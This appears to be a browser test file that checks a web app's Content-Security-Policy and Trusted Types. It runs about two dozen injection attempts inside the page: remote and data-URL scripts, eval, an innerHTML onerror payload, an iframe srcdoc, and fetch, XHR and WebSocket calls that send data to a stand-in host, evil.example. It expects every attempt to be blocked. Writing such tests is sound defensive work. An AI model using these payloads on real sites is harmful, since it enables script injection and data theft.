// What the page forbids itself (Content-Security-Policy, Trusted Types): a walk through every view breaks none of it, and what an intruder would do is stopped, served and from a disk.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { isOfModel, views } from '../../ui/address/views.ts';
import { root } from '../source-files.ts';
import { goToView, openPage, openShare, settled, viewDone, type OpenPage } from './page.ts';

const built = (file: string) => readFileSync(join(root, 'dist/ui', file), 'utf8');
const policyOf = (html: string): Map<string, string> => {
  const [, text = ''] = /http-equiv="Content-Security-Policy"\s+content="([^"]*)"/.exec(html) ?? [];
  return new Map(text.split('; ').map((rule) => [rule.split(' ')[0], rule.slice(rule.indexOf(' ') + 1)]));
};
const SERVED = policyOf(built('index.html'));
const ONE_FILE = policyOf(built('onward.html'));

describe('the policy', () => {
  it.each([
    ['of the served page', SERVED, "'self'"],
    ['of the single file', ONE_FILE, /^'sha256-[\w+/]{43}='$/],
  ])('%s allows no script but its own, no markup made of text, and no other place', (_which, policy, scripts) => {
    expect(Object.fromEntries(policy)).toMatchObject({
      'default-src': "'none'",
      'script-src': scripts instanceof RegExp ? expect.stringMatching(scripts) : scripts,
      'style-src': scripts instanceof RegExp ? expect.stringMatching(scripts) : scripts,
      'base-uri': "'none'",
      'form-action': "'none'",
      'object-src': "'none'",
      'require-trusted-types-for': "'script'",
      'trusted-types': 'onward',
    });
    const all = [...policy.values()].join(' ').split(' ');
    expect(all.filter((source) => /unsafe|^\*|^https?:|^wss?:|^data:.*script/.test(source))).toEqual([]);
    expect(policy.get('script-src')).not.toMatch(/blob:|data:/);
  });

  it('of the single file lets it ask for nothing at all, and comes before every script', () => {
    expect(ONE_FILE.has('connect-src')).toBe(false);
    for (const file of ['index.html', 'onward.html'])
      expect(built(file).indexOf('Content-Security-Policy')).toBeLessThan(built(file).indexOf('<script'));
  });
});

/** Runs in the page, before anything of it. */
function noteBreaches(): void {
  const breaches: string[] = [];
  Object.assign(window, { breaches });
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sample }) =>
    breaches.push(`${effectiveDirective} ${blockedURI} ${sample}`),
  );
}
const breachesOf = (page: Page): Promise<string[]> =>
  page.evaluate(() => (window as unknown as { breaches: string[] }).breaches);

/** Runs in the page: what each attempt came to, "stopped" or "done". */
async function intrude(): Promise<Record<string, string>> {
  // A driver's own call may do what the page may not, so it begins with a timer of the page.
  await new Promise((resolve) => setTimeout(resolve));
  const ran = window as unknown as { ran?: string };
  const evil = 'https://evil.example/';
  const element = (name: string) => document.createElement(name) as HTMLElement & Record<string, unknown>;
  const added = (name: string, property: string, value: string) => {
    const one = element(name);
    one[property] = value;
    document.body.append(one);
    return one;
  };
  const loads = (one: HTMLElement) =>
    new Promise((resolve, reject) => {
      one.addEventListener('load', resolve);
      one.addEventListener('error', reject);
    });
  const code = 'window.ran = "yes"';
  const { trustedTypes } = window as unknown as {
    trustedTypes: { createPolicy(name: string, rules: object): { createHTML(text: string): unknown } };
  };
  const attempts: Record<string, () => unknown> = {
    'a script of text': () => added('script', 'textContent', code),
    'a script of another place': () => added('script', 'src', `${evil}x.js`),
    'a script of data': () => loads(added('script', 'src', `data:text/javascript,${code}`)),
    'a module of another place': () => import(/* @vite-ignore */ `${evil}x.js`),
    'a module of data': () => import(/* @vite-ignore */ `data:text/javascript,${code}`),
    'a module of a blob': () =>
      import(/* @vite-ignore */ URL.createObjectURL(new Blob([code], { type: 'text/javascript' }))),
    eval: () => (Reflect.get(window, 'eval') as (text: string) => unknown)(code),
    'a function of text': () => new Function(code)(),
    'a timer of text': () => setTimeout(code as unknown as () => void),
    innerHTML: () => added('div', 'innerHTML', `<img src=x onerror='${code}'>`),
    outerHTML: () => void (added('div', 'title', 'x').outerHTML = '<b>x</b>'),
    insertAdjacentHTML: () => document.body.insertAdjacentHTML('beforeend', '<b>x</b>'),
    'document.write': () => document.write('<b>x</b>'),
    'a parser of markup': () => new DOMParser().parseFromString('<b>x</b>', 'text/html'),
    'a handler of text': () => element('button').setAttribute('onclick', code),
    'a frame of text': () => added('iframe', 'srcdoc', `<script>${code}</script>`),
    'a worker of another place': () => new Worker(`${evil}x.js`),
    'a worker of data': () => new Worker(`data:text/javascript,${code}`),
    'a policy of its own': () => trustedTypes.createPolicy('evil', {}),
    'the policy once more': () => trustedTypes.createPolicy('onward', { createHTML: (text: string) => text }),
    'a request': () => fetch(evil),
    'an old request': () =>
      new Promise((resolve, reject) => {
        const old = new XMLHttpRequest();
        [old.onload, old.onerror] = [resolve, reject];
        old.open('POST', evil);
        old.send('what is on the screen');
      }),
    'a socket': () => {
      const socket = new WebSocket('wss://evil.example/');
      return new Promise((resolve, reject) => ([socket.onopen, socket.onerror] = [resolve, reject]));
    },
    'a picture of another place': () => loads(added('img', 'src', `${evil}x.png`)),
  };
  const came: Record<string, string> = {};
  for (const [name, attempt] of Object.entries(attempts)) {
    delete ran.ran;
    try {
      await attempt();
      came[name] = 'done';
    } catch {
      came[name] = 'stopped';
    }
    await new Promise((resolve) => setTimeout(resolve));
    if (ran.ran !== undefined) came[name] = 'it ran';
  }
  return came;
}

async function expectAllStopped(page: Page): Promise<void> {
  const before = (await breachesOf(page)).length;
  const sent: string[] = [];
  // Of what the page asks for, this is what it would have been allowed to send.
  await page.route(/evil\.example/, (route) => {
    sent.push(route.request().url());
    return route.abort();
  });
  const came = await page.evaluate(intrude);
  expect(Object.keys(came).length).toBe(24);
  expect(Object.entries(came).filter(([, end]) => end !== 'stopped')).toEqual([]);
  expect(sent).toEqual([]);
  // They are also reported, so that the walk would have seen the like.
  expect((await breachesOf(page)).length).toBeGreaterThan(before + 10);
}

describe('the served page', () => {
  let open: OpenPage;
  beforeAll(async () => {
    open = await openPage('about:blank');
    await open.page.addInitScript(noteBreaches);
    await open.page.goto(`${open.url}#/explore?m=ilkeston-2019&o=proposed-16&n=2&v=1`);
  });
  afterAll(() => open?.close());

  it('breaks nothing of its policy in any view, nor where it makes papers', async () => {
    const { page } = open;
    await settled(page);
    await openShare(page);
    for (const name of ['Word', 'PowerPoint', 'Excel workbook', 'SVG'])
      await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name, exact: true }).click()]);
    for (const { view } of views) {
      await goToView(page, view, isOfModel(view) ? 'm=ilkeston-2019&o=proposed-16&n=2&v=1' : '');
      if (isOfModel(view)) await viewDone(page);
    }
    expect(await breachesOf(page)).toEqual([]);
    expect(open.complaints).toEqual([]);
  });

  it('stops whatever would run, make markup of text, or send something away', () => expectAllStopped(open.page));
});

describe('the single file', () => {
  let open: OpenPage;
  afterAll(() => open?.close());

  it('breaks nothing of its policy from a disk, and stops the same', async () => {
    open = await openPage('about:blank');
    const { page } = open;
    await page.addInitScript(noteBreaches);
    await page.goto(
      `${pathToFileURL(join(root, 'dist/ui/onward.html')).href}#/explore?m=ilkeston-2019&o=today&n=2&v=1`,
    );
    await settled(page);
    expect(await breachesOf(page)).toEqual([]);
    expect(open.complaints).toEqual([]);
    await expectAllStopped(page);
  });
});
